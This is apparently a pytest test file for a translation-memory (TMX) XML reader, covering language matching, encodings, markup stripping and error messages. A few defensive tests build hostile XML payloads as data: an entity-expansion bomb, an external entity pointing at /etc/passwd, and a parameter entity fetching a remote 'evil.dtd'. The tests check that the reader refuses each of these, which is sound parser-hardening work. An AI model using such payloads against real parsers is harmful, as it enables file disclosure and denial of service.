import io
import os
import re

import pytest

from regard.corpora.corpus import ReadReport
from regard.corpora.readers import tmx
from regard.corpora.readers.tmx import read_tmx, split_units_xml
from regard.errors import CorpusError


def unit(**texts):
    variants = (
        f'<tuv xml:lang="{code.replace("_", "-")}"><prop>x</prop><seg>{text}</seg></tuv>'
        for code, text in texts.items()
    )
    return f"<tu><note>no text</note>{''.join(variants)}</tu>"


def document(*units, before=""):
    return f'{before}<tmx version="1.4"><header/><body>{" ".join(units)}</body></tmx>'


def read(text, languages=("en", "de")):
    content = text if isinstance(text, bytes) else text.encode()
    return list(read_tmx(io.BytesIO(content), "a.tmx", languages))


def message(text, languages=("en", "de")):
    with pytest.raises(CorpusError) as caught:
        read(text, languages)
    return str(caught.value)


def test_units_with_both_languages():
    units = (unit(en="one", de="eins"), unit(en="two", fr="deux"), unit(de="drei", en="three"))
    assert read(document(*units)) == [("one", "eins"), ("three", "drei")]


@pytest.mark.parametrize("asked", [("en", "de"), ("EN", "De"), ("en-us", "de_at")])
def test_languages_match_by_their_beginning(asked):
    assert read(document(unit(en_US="one", DE_at="eins")), asked) == [("one", "eins")]


def test_a_longer_code_does_not_match_a_shorter():
    assert "none of its 1 units" in message(document(unit(en="one", de="eins")), ("en-US", "de"))


def test_a_code_does_not_match_another_that_only_begins_alike():
    assert "none of its 1 units" in message(document(unit(enm="olde", de="alt")))


def test_the_very_code_comes_first():
    text = document(unit(en_US="color", en="colour", de="Farbe"))
    assert read(text) == [("colour", "Farbe")]


@pytest.mark.parametrize("units", [unit(pt_BR="trem", pt_PT="comboio")])
def test_a_variant_is_not_its_own_translation(units):
    assert read(document(units), ("pt", "pt-BR")) == [("comboio", "trem")]


def test_old_files_say_lang():
    text = document(unit(en="one", de="eins")).replace("xml:lang", "lang")
    assert read(text) == [("one", "eins")]


def test_namespace():
    text = document(unit(en="one", de="eins")).replace("<tmx", '<tmx xmlns="urn:tmx"')
    assert read(text) == [("one", "eins")]


def test_utf16():
    text = document(unit(en="one", de="schön"), before='<?xml version="1.0" encoding="utf-16"?>')
    assert read(text.encode("utf-16")) == [("one", "schön")]


def test_native_codes_go_and_highlighted_text_stays():
    source = (
        'A <bpt i="1">&lt;b&gt;</bpt>bold<ept i="1">&lt;/b&gt;</ept> and <hi>very <ph>x</ph>high'
        '</hi> word<ph>[<sub>alt text</sub>]</ph><it pos="begin">i</it><ut>u</ut>. &amp;'
    )
    assert read(document(unit(en=source, de="B"))) == [("A bold and very high word. &", "B")]


@pytest.mark.parametrize("size", [1 << 12, 1 << 14, 1 << 15])
def test_native_codes_at_the_edge_of_what_is_read_at_once(size):
    text = document(unit(en=f"{'a' * size}<ph>code</ph>b", de="c"), unit(en="d", de="e"))
    assert read(text) == [("a" * size + "b", "c"), ("d", "e")]


def test_a_segment_may_be_empty_or_missing():
    text = document(unit(en="", de="eins"), unit(en="two", de="zwei").replace("<seg>two</seg>", ""))
    assert read(text) == [("", "eins"), ("", "zwei")]


def test_nesting_has_a_limit():
    def nested(depth):
        return document(unit(en="<hi>" * depth + "x" + "</hi>" * depth, de="y"))

    assert read(nested(200)) == [("x", "y")]
    assert "not XML: Excessive depth" in message(nested(50_000))


@pytest.mark.parametrize(
    "before",
    [
        '<!DOCTYPE tmx SYSTEM "tmx14.dtd">',
        "<!-- x --><!DOCTYPE tmx PUBLIC '-//LISA//DTD//EN' 'a\"\u00e9.dtd' [ ]><?x y?>",
    ],
)
def test_naming_the_grammar_of_tmx_is_harmless(before):
    assert read(document(unit(en="one", de="eins"), before=before)) == [("one", "eins")]


BOMB = '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
FILE = '<!ENTITY a SYSTEM "file:///etc/passwd">'
PARAMETER = '<!ENTITY % a SYSTEM "http://example.com/evil.dtd"> %a;'
GRAMMAR = '<!ATTLIST tuv lang CDATA "en">'


@pytest.mark.parametrize("declared", [BOMB, FILE, GRAMMAR])
def test_declarations_are_refused(declared):
    before = f'<?xml version="1.0"?>\n\n<!DOCTYPE tmx [{declared}]>'
    assert message(document(unit(en="&a;", de="&a;"), before=before)) == (
        "a.tmx: line 3: declares XML entities or other grammar in its DOCTYPE, which is refused as "
        "harmful; remove the [...] there"
    )


@pytest.mark.parametrize("block", [1 << 16, 40])
def test_no_declared_entity_is_read_wherever_reading_stops(tmp_path, monkeypatch, block):
    """Neither from a file nor by a parameter, not even into the attributes of the root."""
    monkeypatch.setattr(tmx, "BLOCK", block)
    os.mkfifo(tmp_path / "pipe")  # reading it would never end
    for declared in (BOMB, PARAMETER, FILE.replace("/etc/passwd", str(tmp_path / "pipe"))):
        before = f"<!DOCTYPE tmx [{declared}]>"
        text = document(unit(en="&a;", de="&a;"), before=before)
        for content in (text, text.replace('version="1.4"', 'version="&a;"')):
            assert re.search("which is refused|not XML: .*[Ee]ntity", message(content))


def test_a_bomb_of_entities_takes_no_memory():
    levels = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(9))
    before = f'<!DOCTYPE tmx [<!ENTITY e0 "haha">{levels}]>'
    for root in ('version="1.4"', 'version="&e9;"'):
        text = document(unit(en="&e9;", de="&e9;"), before=before).replace('version="1.4"', root)
        assert re.search("which is refused|not XML: .*[Ee]ntity", message(text))


@pytest.mark.parametrize("place", ["<seg>a&nbsp;b</seg>", '<seg x="&nbsp;">a</seg>'])
def test_unknown_entity(place):
    text = document(unit(en="a", de="c"), before='<!DOCTYPE tmx SYSTEM "tmx14.dtd">\n')
    found = message(text.replace("<seg>a</seg>", place))
    assert found == "a.tmx: line 2: not XML: Entity 'nbsp' not defined"


@pytest.mark.parametrize("skip_bad", [False, True])
def test_an_encoding_of_chinese_is_read(skip_bad):
    text = document(unit(en="one", zh="一"), before='<?xml version="1.0" encoding="gb2312"?>')
    stream = io.BytesIO(text.encode("gb2312"))
    assert list(read_tmx(stream, "a", ("en", "zh"), skip_bad=skip_bad)) == [("one", "一")]


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("hello\nworld", 1),
        (document("\n\n<tu>", "\n</to>"), 4),
        (document(unit(en="one", de="eins"), "\n", unit(en="two\x01", de="zwei")), 2),
        (document(unit(en="one", de="eins"), "\n").removesuffix("</tmx>"), 2),
        (document(unit(en="one", de="schön")).encode("latin-1"), 1),
    ],
)
def test_not_xml(text, line):
    assert message(text).startswith(f"a.tmx: line {line}: not XML: ")


@pytest.mark.parametrize("skip_bad", [False, True])
def test_an_encoding_that_no_parser_knows_is_refused(skip_bad):
    before = '<?xml version="1.0" encoding="no-such"?>'
    stream = io.BytesIO(document(unit(en="one", de="eins"), before=before).encode())
    with pytest.raises(CorpusError, match="the encoding that its first line declares cannot be"):
        list(read_tmx(stream, "a.tmx", ("en", "de"), skip_bad=skip_bad))


def test_not_tmx():
    expected = "a.tmx: not a TMX file: it begins with <html>, not <tmx>"
    assert message("<html><body/></html>") == expected


def test_languages_found_are_listed():
    text = document(unit(en_US="a", fr="b"), unit(fr="c"))
    assert message(text) == (
        "a.tmx: none of its 2 units has both 'en' and 'de'; languages found: 'fr' (2), 'en-US' (1)"
    )


def test_no_units():
    assert message(document()).endswith(
        "none of its 0 units has both 'en' and 'de'; languages found: none"
    )


def test_what_has_been_read_is_freed(monkeypatch):
    monkeypatch.setattr(tmx, "BLOCK", 1000)
    content = document(unit(en="one", de="eins") * 1000).encode()
    held = [len(one.getparent()) for one in tmx._units(io.BytesIO(content), "a")]
    assert len(held) == 1000
    assert max(held) < 20


def test_units_that_lack_a_language_are_counted():
    report = ReadReport()
    units = (unit(en="one", de="eins"), unit(en="two").replace(' xml:lang="en"', ""), unit(fr="x"))
    content = io.BytesIO(document(*units).encode())
    assert list(read_tmx(content, "a.tmx", ("en", "de"), report)) == [("one", "eins")]
    assert report.messages() == [
        "a.tmx: skipped 1 units with text without language (xml:lang), the first at unit 2",
        "a.tmx: skipped 1 units without both en and de, the first at unit 3",
    ]


def test_units_that_are_not_xml_can_be_skipped():
    good = [unit(en=f"one {n}", de="eins &amp; <b>zwei</b>") for n in range(3)]
    bad = [
        unit(en="a &nbsp; b", de="c"),
        unit(en="a", de="c").removesuffix("</tu>"),
        unit(en="<i>"),
    ]
    comment = f"<!-- {unit(en='old', de='alt')} -->"
    parts = [good[0], *bad, comment, good[1], good[2]]
    content = document(*(f"\n{part}" for part in parts), before='<?xml version="1.0"?>\n').encode()
    report = ReadReport()
    found = list(read_tmx(io.BytesIO(content), "a", ("en", "de"), report, skip_bad=True))
    assert found == [(f"one {n}", "eins & zwei") for n in range(3)]
    assert report.messages() == ["a: skipped 3 units that are not XML, the first at line 4"]
    assert "not XML" in message(content)


@pytest.mark.parametrize("block", [1, 3, 1000])
def test_units_are_found_wherever_reading_stops(monkeypatch, block):
    monkeypatch.setattr(tmx, "BLOCK", block)
    text = b'<?xml version="1.0"?>\n<tmx v="1">\n<tu>a\n</tu>\n'
    text += b'<!-- <tu>x</tu> --><tu n="2"><tuv/></tu>'
    found = list(split_units_xml(io.BytesIO(text)))
    head = b'<?xml version="1.0"?><tmx v="1">'
    assert found == [
        (head + b"<tu>a\n</tu></tmx>", 3),
        (head + b'<tu n="2"><tuv/></tu></tmx>', 5),
    ]


def test_a_unit_that_never_ends_is_not_kept_in_memory(monkeypatch):
    monkeypatch.setattr(tmx, "BLOCK", 16)
    monkeypatch.setenv("REGARD_LIMITS", "line=100")
    text = b"<tmx><tu>" + b"x" * 1000 + b"<tu>a</tu>"
    assert len(list(split_units_xml(io.BytesIO(text)))) == 1
    assert not list(split_units_xml(io.BytesIO(b"x" * 1000)))
